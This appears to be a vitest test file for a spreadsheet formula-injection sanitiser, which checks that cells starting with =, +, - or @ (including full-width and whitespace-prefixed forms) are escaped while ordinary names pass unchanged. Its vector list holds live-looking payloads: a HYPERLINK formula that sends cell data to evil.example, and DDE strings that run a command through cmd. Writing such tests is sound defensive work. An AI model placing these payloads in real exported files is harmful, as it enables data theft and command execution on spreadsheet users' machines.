import { expect, test } from 'vitest';
import { neutraliseCell } from './neutralise-cell.ts';

const VECTORS = [
  '=1+1',
  '=HYPERLINK("https://evil.example/?"&A1,"Click")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  "+cmd|' /C calc'!A0",
  '-1+1',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\tharmless to look at',
  '\rharmless to look at',
  ' =1+1',
  '\u00a0=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '=',
  '-',
];

test('no cell begins with what makes it a formula', () => {
  for (const vector of VECTORS) {
    expect(neutraliseCell(vector), JSON.stringify(vector)).toMatch(/^'/);
    expect(neutraliseCell(vector).slice(1), JSON.stringify(vector)).toContain(vector.trim().slice(0, 1));
  }
});

test('a formula behind a separator of another country is none either', () => {
  for (const separator of [';', ',', '|', '\t', '\n', '\r\n', '; ']) {
    for (const sign of '=+-@＝') {
      const cells = neutraliseCell(`Lea${separator}${sign}1+1`).split(/[;,|\t\r\n]/u);
      for (const cell of cells) expect(cell.trim(), JSON.stringify(separator + sign)).not.toMatch(/^[=+\-@＝]/u);
    }
  }
});

test('what people are really called stays as it is', () => {
  for (const name of ["O'Neill", 'Núñez, Ana', 'Jean-Luc', 'ana+school@example.com', 'Łucja Żółć', '李小龍', '', '5'])
    expect(neutraliseCell(name)).toBe(name);
});
